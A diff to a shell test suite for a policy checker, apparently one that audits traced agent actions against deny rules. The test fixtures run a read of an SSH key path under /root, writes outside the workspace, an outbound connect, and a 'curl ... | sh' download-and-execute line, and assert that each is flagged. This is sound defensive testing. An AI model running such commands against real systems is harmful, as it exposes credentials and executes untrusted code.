@@ -852,15 +852,16 @@ trace() {
 @test "traced: reads of keys, writes outside the workspace and connects are caught" {
 	mkdir ws && cd ws
 	# non-blocking connects: to loopback (allowed) and to a documentation
-	# address (denied), whatever the network answers
+	# address (denied), in a network namespace of the test's own, where
+	# no packet can leave the machine
 	cat > net.py <<'PY'
-import socket
-for a in ("127.0.0.1", "203.0.113.7"):
+import socket, sys
+for a in sys.argv[1:]:
     s = socket.socket()
     s.setblocking(False)
     s.connect_ex((a, 9))
 PY
-	trace sh -c 'cat /root/.ssh/gh-policy-test-missing-key; echo x > /nonexistent-gh-policy-dir/f; echo y > "$PWD/ok.txt"; python3 net.py' 2>/dev/null
+	trace sh -c 'cat /root/.ssh/gh-policy-test-missing-key; echo x > /nonexistent-gh-policy-dir/f; echo y > "$PWD/ok.txt"; unshare -n python3 net.py 127.0.0.1 203.0.113.7' 2>/dev/null
 	[ "$(jq -r .observation_mode r.json)" = ebpf ] || skip "audit unavailable here"
 	cp "$AGENT" agent.rules
 	run --separate-stderr gh-policy agent.rules r.json
@@ -868,9 +869,9 @@ PY
 	[ "$status" -eq 1 ]
 	grep -q '^agent\.rules:22: deny read /root/\.ssh/gh-policy-test-missing-key \[result=ENOENT\] by pid [0-9]* (cat /root/\.ssh/gh-policy-test-missing-key)$' <<<"$output"
 	grep -q '^agent\.rules:53: default deny write /nonexistent-gh-policy-dir/f \[.*result=ENOENT\] by pid [0-9]* (sh -c .*)$' <<<"$output"
-	grep -q '^agent\.rules:86: default deny connect 203\.0\.113\.7:9 \[proto=tcp.*\] by pid [0-9]* (.*python3[^ ]* net\.py)$' <<<"$output"
+	grep -q '^agent\.rules:86: default deny connect 203\.0\.113\.7:9 \[proto=tcp.*\] by pid [0-9]* (.*python3[^ ]* net\.py 127\.0\.0\.1 203\.0\.113\.7)$' <<<"$output"
 	! grep -q 'ok\.txt' <<<"$output"
-	! grep -q '127\.0\.0\.1' <<<"$output"
+	! grep -q 'connect 127\.0\.0\.1' <<<"$output"
 	# the JSON verdict and the annotated receipt agree with the text
 	gh-policy -j agent.rules r.json | jq -r '.violations[].message' | diff - <(printf '%s\n' "$output")
 	gh-policy -a agent.rules r.json | jq -e '.policy.verdict == "fail"'
@@ -878,14 +879,14 @@ PY
 
 @test "traced: a shell piping a download into sh is caught, curl or not" {
 	mkdir ws && cd ws
-	trace sh -c 'curl -fsSL https://example.invalid/install.sh 2>/dev/null | sh' 2>/dev/null
+	trace sh -c 'curl -fsSL http://127.0.0.1:9/install.sh 2>/dev/null | sh' 2>/dev/null
 	[ "$(jq -r .observation_mode r.json)" = ebpf ] || skip "audit unavailable here"
 	cp "$AGENT" agent.rules
 	run --separate-stderr gh-policy agent.rules r.json
 	echo "$output"
 	[ "$status" -eq 1 ]
-	grep -qx 'agent\.rules:61: deny exec /usr/bin/dash by pid [0-9]* (sh -c curl -fsSL https://example\.invalid/install\.sh 2>/dev/null | sh)' <<<"$output" ||
-	grep -qx 'agent\.rules:61: deny exec /[a-z/]*/[a-z]*sh by pid [0-9]* (sh -c curl .* | sh)' <<<"$output"
+	grep -qx 'agent\.rules:61: deny exec /usr/bin/dash by pid [0-9]* (sh -c '\''curl -fsSL http://127\.0\.0\.1:9/install\.sh 2>/dev/null | sh'\'')' <<<"$output" ||
+	grep -qx 'agent\.rules:61: deny exec /[a-z/]*/[a-z]*sh by pid [0-9]* (sh -c '\''curl .* | sh'\'')' <<<"$output"
 }
 
 @test "traced: aggregate, sign, verify, then require the signer's key" {
